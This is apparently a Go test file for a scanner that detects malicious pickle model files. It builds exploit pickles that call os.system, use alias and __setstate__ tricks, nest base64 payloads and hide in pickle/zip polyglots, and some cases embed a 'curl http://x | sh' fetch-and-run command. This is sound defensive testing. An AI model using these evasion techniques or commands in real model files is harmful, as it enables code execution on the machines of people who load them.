package picklefmt_test

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/modelscan-go/modelscan/internal/core"
	"github.com/modelscan-go/modelscan/internal/pklasm"
	"github.com/modelscan-go/modelscan/internal/rules"
)

// innerCritical checks for a CRITICAL finding on module whose source is a
// nested stream ("...@offset").
func innerCritical(module, evidence string) func(r *reporter, s *core.Session) {
	return func(r *reporter, s *core.Session) {
		for _, f := range findingsWhere(s, "", module, evidence) {
			if f.Severity == core.Critical && strings.Contains(f.Source, "@") {
				return
			}
		}
		r.Errorf("no CRITICAL nested %s finding (evidence %q) with a nested source", module, evidence)
	}
}

// extraCases are further evasions beyond the basic catalogue.
func extraCases() []attackCase {
	var cs []attackCase
	sys := pklasm.System("echo pwned")

	// A protocol 0/1 pickle (no PROTO header) whose first opcode carries a
	// literal longer than the sniffer's trial window. pickle.load reads it
	// and runs the call after it; torch.load of a non-zip file unpickles it
	// the same way (legacy format, the first pickle).
	big := strings.Repeat("a", 100_000)
	p1 := pklasm.New().BinString(big).Pop().Global("os", "system").Mark().String("id").Tuple().Reduce().Stop().Bytes()
	p0 := pklasm.New().String(big).Pop().Global("os", "system").Mark().String("id").Tuple().Reduce().Stop().Bytes()
	cs = append(cs,
		attackCase{name: "sniff/proto1 BINSTRING 100KB prefix .pkl", data: p1, file: "attack.pkl",
			cmp: exactly, sev: core.Critical, module: "os", evidence: "os.system('id')"},
		attackCase{name: "sniff/proto0 STRING 100KB prefix .pkl", data: p0, file: "attack.pkl",
			cmp: exactly, sev: core.Critical, module: "os", evidence: "os.system('id')"},
		attackCase{name: "sniff/proto1 BINSTRING 100KB prefix .pt", data: p1, file: "model.pt",
			cmp: exactly, sev: core.Critical, module: "os", evidence: "os.system('id')"},
		// the handler itself copes with it once it is routed there
		attackCase{name: "sniff/proto1 BINSTRING 100KB prefix, pickle handler directly", data: p1, direct: true,
			cmp: exactly, sev: core.Critical, module: "os", evidence: "os.system('id')"},
		// protocol 0 with a short prefix is found by the trial run
		attackCase{name: "sniff/proto0 short prefix .dat", data: pklasm.New().String("hello").Pop().Global("os", "system").Mark().String("id").Tuple().Reduce().Stop().Bytes(),
			file: "weights.dat", cmp: exactly, sev: core.Critical, module: "os"},
	)

	// Dotted names that walk through a private module alias: random.py,
	// argparse.py and tempfile.py do `import os as _os`, collections and
	// threading `import sys as _sys`.
	cs = append(cs,
		attackCase{name: "names/('random','_os.system')",
			data: pklasm.New().Proto(4).SG("random", "_os.system").Str("touch /tmp/pwned").Tuple1().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, module: "random"},
		attackCase{name: "names/('argparse','_os.system')",
			data: pklasm.New().Proto(4).SG("argparse", "_os.system").Str("touch /tmp/pwned").Tuple1().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, module: "argparse"},
		attackCase{name: "names/('threading','_os.system')",
			data: pklasm.New().Proto(4).SG("threading", "_os.system").Str("touch /tmp/pwned").Tuple1().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, module: "threading"},
		attackCase{name: "names/('collections','_sys.modules')",
			data: pklasm.New().Proto(4).SG("collections", "_sys.modules").Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, module: "collections"},
		attackCase{name: "tramp/getattr(random._os,'system')('touch /tmp/pwned')",
			data: pklasm.New().Proto(4).SG("builtins", "getattr").SG("random", "_os").Str("system").Tuple2().Reduce().
				Str("touch /tmp/pwned").Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleTrampoline},
	)

	// __setstate__ injected through the slotstate half of a BUILD state.
	cs = append(cs, attackCase{name: "dunder/__setstate__ via slotstate",
		data: pklasm.New().Proto(2).Global("types", "SimpleNamespace").EmptyTuple().Reduce().
			None().EmptyDict().Str("__setstate__").Global("posix", "system").SetItem().Tuple2().Build().
			Str("echo pwned").Build().Stop().Bytes(),
		cmp: exactly, sev: core.Critical, rule: rules.PickleDunderState, ruleSev: core.Critical, evidence: pwned})

	// Nested pickles: other encodings and sizes.
	proto0 := pklasm.New().Global("posix", "system").Mark().String("echo pwned").Tuple().Reduce().Stop().Bytes()
	pad := bytes.Repeat([]byte{'x'}, 5000)
	largeInner := pklasm.New().Proto(2).BinBytes(pad).Pop().Global("posix", "system").Str("echo pwned").Tuple1().Reduce().Stop().Bytes()
	cs = append(cs,
		attackCase{name: "nested/_pickle.loads(protocol-0 bytes)", data: loadsOf(proto0),
			cmp: exactly, sev: core.Critical, check: innerCritical("posix", pwned)},
		attackCase{name: "nested/_pickle.loads(5 KB raw bytes)", data: loadsOf(largeInner),
			cmp: exactly, sev: core.Critical, check: innerCritical("posix", pwned)},
		attackCase{name: "nested/_pickle.loads(base64.b64decode(7 KB str))",
			data: pklasm.New().Proto(2).Global("_pickle", "loads").
				Global("base64", "b64decode").Str(b64(largeInner)).Tuple1().Reduce().Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, check: innerCritical("posix", pwned)},
		attackCase{name: "nested/torch.storage._load_from_bytes(base64.b64decode(7 KB str))",
			data: pklasm.New().Proto(2).Global("torch.storage", "_load_from_bytes").
				Global("base64", "b64decode").Str(b64(largeInner)).Tuple1().Reduce().Tuple1().Reduce().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, check: innerCritical("posix", pwned)},
		attackCase{name: "nested/torch.storage._load_from_bytes(raw bytes)",
			data: pklasm.New().Proto(2).Global("torch.storage", "_load_from_bytes").BinBytes(sys).Tuple1().Reduce().Stop().Bytes(),
			cmp:  exactly, sev: core.Critical, check: innerCritical("posix", pwned)},
		attackCase{name: "nested/dormant 7 KB base64 str literal",
			data: pklasm.New().Proto(4).EmptyDict().Str("w").Str(b64(largeInner)).SetItem().Stop().Bytes(),
			cmp:  atLeast, sev: core.Medium, rule: rules.PickleEmbedded, ruleSev: core.Medium},
		attackCase{name: "nested/dormant 5 KB raw bytes literal",
			data: pklasm.New().Proto(4).EmptyDict().Str("w").BinBytes(largeInner).SetItem().Stop().Bytes(),
			cmp:  exactly, sev: core.High, rule: rules.PickleEmbedded, ruleSev: core.Medium},
		attackCase{name: "nested/dormant base64 with line breaks (base64.encodebytes)",
			data: pklasm.New().Proto(4).EmptyDict().Str("w").Str(encodebytes(execPickle())).SetItem().Stop().Bytes(),
			cmp:  exactly, sev: core.High, rule: rules.PickleEmbedded, ruleSev: core.Medium},
	)
	// joblib: content only pickle.load sees must not be muted.
	cs = append(cs,
		attackCase{name: "joblib/shadow bytes call an unknown callable with a shell command",
			data: joblibWrapper(true, []byte("cmypkg\nrun\n(S'curl http://x | sh'\ntR")),
			cmp:  atLeast, sev: core.High, rule: rules.PickleSuspiciousCall, module: "mypkg"},
		attackCase{name: "joblib/wrapper without dtype, then an unknown callable with a shell command",
			data: func() []byte {
				a := pklasm.New().Proto(4)
				appendWrapper(a, false)
				return a.Pop().Global("mypkg", "run").Str("curl http://x | sh").Tuple1().Reduce().Stop().Bytes()
			}(),
			cmp: atLeast, sev: core.High, rule: rules.PickleSuspiciousCall, module: "mypkg"},
	)

	// __setstate__ injected with an unknown callable, literal and computed state.
	cs = append(cs,
		attackCase{name: "dunder/__setstate__ = unknown callable (literal dict)",
			data: pklasm.New().Proto(2).Global("types", "SimpleNamespace").EmptyTuple().Reduce().
				EmptyDict().Str("__setstate__").Global("mypkg", "run").SetItem().Build().
				Str("curl http://x | sh").Build().Stop().Bytes(),
			cmp: exactly, sev: core.Critical, rule: rules.PickleDunderState, ruleSev: core.Critical},
		attackCase{name: "dunder/__setstate__ = unknown callable (state built by builtins.dict)",
			data: pklasm.New().Proto(2).Global("types", "SimpleNamespace").EmptyTuple().Reduce().
				Global("builtins", "dict").Mark().Str("__setstate__").Global("mypkg", "run").Tuple2().List().Tuple1().Reduce().Build().
				Str("curl http://x | sh").Build().Stop().Bytes(),
			cmp: exactly, sev: core.Critical},
	)

	// pickle + zip polyglot: pickle.load runs the prefix.
	cs = append(cs, attackCase{name: "polyglot/pickle then zip archive", data: polyglot(sys),
		cmp: exactly, sev: core.Critical, module: "posix", evidence: pwned})
	return cs
}

// appendWrapper emits a joblib NumpyArrayWrapper for a float64 array of
// shape (16,) (or, without dtype, one whose size cannot be known).
func appendWrapper(a *pklasm.A, withDtype bool) *pklasm.A {
	a.SG("joblib.numpy_pickle", "NumpyArrayWrapper").EmptyTuple().NewObj().
		EmptyDict().Mark().
		Str("subclass").SG("numpy", "ndarray").
		Str("shape").Int(16).Tuple1().
		Str("order").Str("C")
	if withDtype {
		a.Str("dtype").SG("numpy", "dtype").Str("f8").Bool(false).Bool(true).Tuple3().Reduce().
			Mark().Int(3).Str("<").None().None().None().Int(-1).Int(-1).Int(0).Tuple().Build()
	}
	return a.Str("allow_mmap").Bool(false).SetItems().Build()
}

// joblibWrapper is a joblib-style stream whose 128 bytes of array data are
// the opcodes op (padded with NONE), then STOP.
func joblibWrapper(withDtype bool, op []byte) []byte {
	data := append(append([]byte{}, op...), bytes.Repeat([]byte{'N'}, 128-len(op))...)
	a := pklasm.New().Proto(4)
	appendWrapper(a, withDtype)
	return a.Raw(data...).Stop().Bytes()
}

func polyglot(p []byte) []byte {
	var zb bytes.Buffer
	zw := zip.NewWriter(&zb)
	w, _ := zw.Create("archive/data.pkl")
	w.Write(pklasm.New().Proto(2).None().Stop().Bytes())
	zw.Close()
	return append(append([]byte{}, p...), zb.Bytes()...)
}

// encodebytes mimics base64.encodebytes: 76-character lines.
func encodebytes(p []byte) string {
	s := b64(p)
	var b strings.Builder
	for len(s) > 76 {
		b.WriteString(s[:76] + "\n")
		s = s[76:]
	}
	b.WriteString(s + "\n")
	return b.String()
}

// TestNoDuplicateFindings: several readings of one stream (frame modes,
// joblib) must not report the very same finding twice.
func TestNoDuplicateFindings(t *testing.T) {
	for _, c := range attackCases() {
		if c.bug != "" {
			continue
		}
		c := c
		t.Run(c.name, func(t *testing.T) {
			lim := core.DefaultLimits()
			if c.limits != nil {
				c.limits(&lim)
			}
			s := scanRegistry(t, "attack.pkl", c.data, lim)
			seen := map[string]bool{}
			for _, f := range s.Findings {
				k := fmt.Sprintf("%s|%s|%s|%s|%s|%s", f.Rule, f.Severity, f.Module, f.Operator, f.Source, f.Evidence)
				if seen[k] {
					if strings.HasPrefix(c.name, "frames/") {
						t.Error("the same finding is reported twice: " + k)
					}
					t.Errorf("duplicate finding %s\n%s", k, dump(s))
				}
				seen[k] = true
			}
		})
	}
}

type manifestEntry struct {
	Path   string `json:"path"`
	Format string `json:"format"`
}

// TestBenignRealFixtures: pickles written by the real libraries produce no
// finding above LOW and no error.
func TestBenignRealFixtures(t *testing.T) {
	root := "../../../testdata/real"
	data, err := os.ReadFile(filepath.Join(root, "manifest.json"))
	if err != nil {
		t.Fatal(err)
	}
	var m []manifestEntry
	if err := json.Unmarshal(data, &m); err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, e := range m {
		switch e.Format {
		case "pickle", "dill", "cloudpickle", "joblib":
		default:
			continue
		}
		n++
		e := e
		t.Run(e.Path, func(t *testing.T) {
			p, err := os.ReadFile(filepath.Join(root, e.Path))
			if err != nil {
				t.Fatal(err)
			}
			s := scanPickle(t, filepath.Base(e.Path), p, core.DefaultLimits())
			var fails []string
			if got := maxSeverity(s); got > core.Low {
				fails = append(fails, fmt.Sprintf("benign %s file: max severity %s", e.Format, got))
			}
			if len(s.Problems) > 0 {
				fails = append(fails, "benign file has problems")
			}
			if len(fails) > 0 {
				t.Errorf("%s\n%s", strings.Join(fails, "\n"), dump(s))
			}
		})
	}
	if n < 40 {
		t.Fatalf("only %d fixtures", n)
	}
}
